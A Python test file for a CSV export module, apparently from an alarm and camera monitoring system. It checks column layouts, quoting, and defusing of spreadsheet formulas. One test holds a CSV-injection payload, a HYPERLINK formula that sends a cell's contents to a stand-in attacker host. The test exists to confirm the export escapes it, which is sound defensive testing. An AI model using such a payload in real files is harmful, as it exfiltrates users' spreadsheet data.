"""CSV files: read back as they were, and nothing in them that a spreadsheet would carry out."""

from __future__ import annotations

import csv
import io

from hypothesis import given
from hypothesis import strategies as st

from engine.api.csv_file import FORMULA_BEGINS, alarm_table, csv_table, event_table, log_table
from engine.wire_log import LogCategory, LogEntry
from storage.catalog.alarm_records import AlarmRow
from storage.catalog.records import EventRecord, Severity

T0 = 1_772_633_000_250_000


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode(), newline=""), strict=True))


def alarm(**changes: object) -> AlarmRow:
    fields: dict[str, object] = {
        "id": 1,
        "rule_id": 1,
        "rule": "Door",
        "kind": "detection.motion",
        "source": "Gate",
        "camera": "Gate",
        "severity": Severity.WARNING,
        "status": "in_progress",
        "first_us": T0 - 5_000_000,
        "last_us": T0,
        "count": 3,
        "text": "moved",
        "comment": "",
        "handler": "",
        "muted_until_us": None,
        "sound": 0,
        "is_live": False,
        "is_test": False,
    }
    return AlarmRow(**{**fields, **changes})  # type: ignore[arg-type]


def test_alarms_have_exactly_the_columns_of_the_manual() -> None:
    data = alarm_table([alarm(), alarm(source="", kind="station.cpu_high", status="false_alarm")], "cellar")
    assert data == (
        b"event type,receiving station,triggering device,time of occurrence,event status\r\n"
        b"detection.motion,cellar,Gate,2026-03-04T14:03:20.250Z,in progress\r\n"
        b"station.cpu_high,cellar,cellar,2026-03-04T14:03:20.250Z,false alarm\r\n"
    )


def test_events_and_log_entries_have_their_words() -> None:
    event = EventRecord(time_us=T0, kind="camera.lost", source="Gate", text='no "route", sorry', count=7)
    (_, line) = rows_of(event_table([event]))
    assert line == ["2026-03-04T14:03:20.250Z", "camera.lost", "info", "Gate", 'no "route", sorry', "", "7"]
    entry = LogEntry(
        id=1, time_us=T0, category=LogCategory.OPERATION, type="camera.edit", actor="anna", is_success=False
    )
    (_, line) = rows_of(log_table([entry]))
    assert line == ["2026-03-04T14:03:20.250Z", "operation", "camera.edit", "anna", "", "", "normal", "fail"]


def test_a_formula_from_outside_is_only_text() -> None:
    poison = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    ((_, cell),) = rows_of(csv_table(("a", "b"), [("x", poison)]))[1:]
    assert cell == f"'{poison}"


@given(st.lists(st.lists(st.text(st.characters(exclude_categories=["Cs"])), min_size=2, max_size=2)))
def test_whatever_the_cells_are_they_come_back_and_none_begins_like_a_formula(
    cells: list[list[str]],
) -> None:
    (_, *back) = rows_of(csv_table(("a", "b"), cells))
    assert len(back) == len(cells)
    for before, after in zip(cells, back, strict=True):
        for given_cell, cell in zip(before, after, strict=True):
            assert not cell.startswith(FORMULA_BEGINS)
            assert cell.removeprefix("'") == given_cell.removeprefix("'")
